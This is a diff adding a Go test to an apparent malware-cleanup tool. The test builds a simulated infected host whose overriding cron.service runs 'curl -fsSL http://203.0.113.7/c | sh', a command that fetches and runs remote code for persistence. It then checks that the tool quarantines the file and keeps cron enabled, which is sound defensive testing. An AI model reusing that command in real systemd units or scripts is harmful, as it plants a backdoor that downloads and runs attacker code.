@@ -522,3 +522,30 @@ func TestPackagedDropInLinesOnly(t *testing.T) {
 		t.Errorf("packaged drop-in: %+v", plan.Changes)
 	}
 }
+
+// An /etc copy of a packaged unit whose main command is the malware's:
+// the copy is quarantined so the packaged unit takes over, and the service
+// stays enabled (removing its only ExecStart= would leave a unit that
+// cannot start, shadowing the packaged one).
+func TestOverrideCopyWithReplacedMainCommand(t *testing.T) {
+	ctx := context.Background()
+	base := hosttest.Debian12()
+	stock, _ := base.Get("/usr/lib/systemd/system/cron.service")
+	evil := strings.Replace(stock.Data, "ExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS", "ExecStart=/bin/sh -c '/usr/sbin/cron -f -P & curl -fsSL http://203.0.113.7/c | sh'", 1)
+	dir := build(t, base.With(hosttest.Entry{Path: "/etc/systemd/system/cron.service", Data: evil, Mtime: hosttest.InfectionTime}))
+	fs, plan := findPlan(t, dir, PlanOptions{})
+	checkWant(t, fs, []want{{"/etc/systemd/system/cron.service", 8, KindSystemd, Critical, ActionQuarantine}})
+	got := map[string]Op{}
+	for _, c := range plan.Changes {
+		got[c.Path] = c.Op
+	}
+	if diff := cmp.Diff(map[string]Op{"/etc/systemd/system/cron.service": OpQuarantine}, got); diff != "" {
+		t.Errorf("plan (-want +got):\n%s", diff)
+	}
+	if _, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Readlink(filepath.Join(dir, "etc/systemd/system/multi-user.target.wants/cron.service")); err != nil {
+		t.Errorf("cron no longer enabled: %v", err)
+	}
+}
